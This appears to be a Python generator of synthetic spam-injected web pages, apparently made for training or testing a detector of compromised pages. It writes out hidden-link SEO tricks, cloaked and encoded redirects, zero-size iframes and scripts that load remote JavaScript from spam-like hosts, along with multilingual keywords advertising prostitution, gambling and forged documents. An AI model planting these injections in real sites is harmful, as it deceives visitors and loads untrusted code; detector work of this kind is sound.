"""Offers and ways once more; untuned until first runs of 0.82 and 0.80, then used to mend."""

# ruff: noqa: E501 (markup reads better on one line)
import random
from collections.abc import Callable

from clean_pages import Clean

OFFERS = (
    "陵园墓位团葬价|骨灰盒实体店热卖|丧葬一条龙灵车|纸扎别墅订做|哭丧班子出场",
    "废旧电瓶吨价回收|地磅解码遥控|柴油黑油点|走私冻品鸡爪|三无锂电拼装",
    "相亲角高端会员|离异少妇征婚|混血宝宝基因库|名媛拼单下午茶|租女友回家过年",
    "算力云挖合约|空投撸毛教程|土狗币百倍|冷钱包找回|搬砖套利脚本",
    "老中医偏方壮腰|吃啥补啥延时妙招|胎儿鉴血寄香港|代谢脂肪躺瘦贴|耳鸣耳聋神灸",
    "网课挂机秒刷|学时代刷平台|驾培打卡神器|普通话包甲|继续教育一键完成",
    "棋局辅牌器感应|牌具工厂变焦眼镜|骰子遥控必胜|麻将桌四口程序|捕鱼漏洞打法",
    "热门番剧补档|女神写真套图|主播翻车合集|禁播伦理迅播|偷录公厕流出",
    "公章电子版抠图|流水PS代改|驻外签证陪签|无犯罪证明改写|社保断缴补挂靠",
    "メンズエステ 予約 深夜|ナイト系 求人 日払い|裏アカ 女子 動画|当選金 受取 手続き",
    "무료 야동 다시보기|급전 당일 대출|총알 카지노 쿠폰|성인용품 할인 몰",
    "доставка цветы казань дешево|курсовая на заказ недорого|проститутки индивидуалки метро|ставки на спорт прогноз",
    "xe ôm tình yêu|bán bằng đại học|thuốc cường dương giá rẻ|tài xỉu đổi thẻ",
    "judi bola parlay malam ini|pinjol cair tanpa ktp|obat kuat herbal murah|nonton film semi barat",
    "miracle cbd gummies review|unlimited robux generator|keto burn drops sale|leaked celebrity tapes|exam dumps guaranteed pass",
)
HOSTS = "www.rhqcwx.com jtyhsl.cn www.bdzxgm.net fyxhny.com 3388dm.com www.ntklyz.com hx-pgs.com".split()
Put = Callable[[random.Random, Clean, list[str]], str]


def _host(source: random.Random) -> str:
    return source.choice(HOSTS)


def _links(source: random.Random, words: list[str], joint: str) -> str:
    return joint.join(
        f'<a href="//{_host(source)}/{n}/" title="{word}">{word}</a>'
        for n, word in enumerate(words)
    )


SPOTS: tuple[Put, ...] = (
    lambda s, c, w: c.html(title="—".join(w[:3])),
    lambda s, c, w: c.html().replace("<title>", f"<title>{w[0]}_{w[1]}_", 1),
    lambda s, c, w: c.html(
        head=f'<meta name="Description" content="{w[0]}，{w[1]}，{w[2]}，{w[3]}，欢迎咨询">'
    ),
    lambda s, c, w: c.html(last=f"<div>{_links(s, w[:4], ' | ')}</div>"),
    lambda s, c, w: c.html(middle=f"<p>{c.paragraphs[0]}</p><div>{_links(s, w[:3], '<br>')}</div>"),
    lambda s, c, w: c.html(
        middle=f'<p style="line-height:0;height:0;overflow:hidden">{" ".join(w[:4])}</p>'
    ),
    lambda s, c, w: c.html(middle=f"<p>{' | '.join(w[:4])}</p>"),
    lambda s, c, w: c.html(first=f"<center>{'、'.join(w[:4])}</center>"),
    lambda s, c, w: c.html(
        middle=f"<p>{'、'.join(w[:3])}，有意者联系微信号：kd_{s.randrange(10**5, 10**6)}</p>"
    ),
    lambda s, c, w: c.html(behind="\n" + "\n".join(w[:3])),
    lambda s, c, w: c.html(middle=f"<!--seo {_links(s, w[:3], ' ')}-->"),
    lambda s, c, w: c.html(middle=f'<img src="/p.png" title="{w[0]}_{w[1]}_{w[2]}" alt="{w[3]}">'),
)


def offers_once_more(source: random.Random, clean: Clean) -> str:
    """Offer once more what no list holds."""
    words = source.choice(OFFERS).split("|")
    source.shuffle(words)
    return source.choice(SPOTS)(source, clean, words)


def ways_once_more(source: random.Random, clean: Clean) -> str:
    """Hide links, or lead visitors away, once more in other ways."""
    host, words = _host(source), source.choice(OFFERS).split("|")
    links = _links(source, words[:3], " ")
    codes = "-".join(format(ord(one), "x") for one in f"http://{host}/")
    pieces = [
        {"middle": f"<div style='position:fixed;bottom:-800px'>{links}</div>"},
        {"middle": f"<div style='color:white'>{links}</div>"},
        {"middle": f"<div style='font:0/0 a'>{links}</div>"},
        {"middle": f"<div style='margin-top:-5000px;position:absolute'>{links}</div>"},
        {
            "head": "<style>div.nv{transform:rotateX(90deg)}</style>",
            "middle": f"<div class='nv'>{links}</div>",
        },
        {"middle": f"<div style='overflow:hidden;height:2px'>{links}</div>"},
        {"middle": f"<div hidden>{links}</div>"},
        {
            "middle": f"<p>各单位要按时报送<a href='http://{host}/' style='color:inherit;text-decoration:none;cursor:text'>，</a>确保质量。</p>"
        },
        {
            "last": f"<script>var p='{codes}'.split('-').map(x=>String.fromCharCode(parseInt(x,16))).join('');location.replace(p)</script>"
        },
        {
            "last": f"<script>onload=function(){{var e=document.createElement('iframe');e.src='//{host}';e.style.cssText='width:0;height:0';document.body.appendChild(e)}}</script>"
        },
        {
            "last": f"<script>document.addEventListener('click',()=>window.open('http://{host}'))</script>"
        },
        {"last": f"<script>$.getScript('//{host}/q')</script>"},
        {
            "last": f"<script>document.referrer.indexOf('.baidu.')>-1&&(self.location='http://{host}')</script>"
        },
        {
            "last": f"<script>if(new Date().getHours()>20)window.location.assign('https://{host}/')</script>"
        },
        {"last": f"<script type=module>import 'https://{host}/m.js'</script>"},
        {
            "last": f"<script>document.body.style.display='none';document.write('<iframe src=\"http://{host}\" width=100% height=100%></iframe>')</script>"
        },
        {"head": f"<meta http-equiv=refresh content=\"1;URL='https://{host}/'\">"},
        {"last": f"<object data='http://{host}/x.html'></object>"},
        {"last": f"<details open ontoggle=\"location='//{host}'\"></details>"},
        {
            "last": f"<div style='position:fixed;top:0;width:100%'><a href='http://{host}/'><img src='/uploads/ad.jpg'></a></div>"
        },
    ]
    return clean.html(**source.choice(pieces))


NINTH: dict[str, Callable[[random.Random, Clean], str]] = {
    "offers once more": offers_once_more,
    "ways once more": ways_once_more,
}
